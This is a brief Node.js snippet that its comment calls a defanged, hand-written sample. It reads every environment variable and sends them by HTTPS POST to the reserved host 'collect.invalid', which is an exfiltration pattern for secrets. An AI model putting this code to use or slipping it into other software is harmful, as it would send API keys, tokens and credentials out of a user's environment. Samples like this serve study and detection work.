// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
const https = require("https");
const data = JSON.stringify(process.env);
const request = https.request({ hostname: "collect.invalid", method: "POST", path: "/e" });
request.write(data);
request.end();
